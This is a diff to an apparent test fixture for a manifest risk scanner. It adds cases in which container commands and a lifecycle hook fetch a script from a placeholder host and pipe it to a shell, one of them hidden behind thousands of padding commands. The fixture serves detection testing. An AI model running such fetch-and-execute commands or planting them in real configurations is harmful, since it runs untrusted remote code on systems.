@@ -195,6 +195,14 @@ export const DANGERS: Readonly<Record<string, readonly [Want, Manifest | Sides]>
     "medium",
     runs({}, { command: ["sh", "-c"], args: ["curl -fsSL https://e.example | bash"] }),
   ],
+  "a script from the network, kept first": [
+    "medium",
+    runs({}, { command: ["sh", "-c", "wget -qO /tmp/x.sh https://e.example; sh -e /tmp/x.sh"] }),
+  ],
+  "a script from the network, far behind": [
+    "medium",
+    runs({}, { command: ["sh", "-c", `${"echo hello; ".repeat(5000)}curl https://e.example | sh`] }),
+  ],
   "a script from the network, in a hook": [
     "medium",
     become({}, { lifecycle: { postStart: { exec: { command: ["sh", "-c", "curl e|sh"] } } } }),
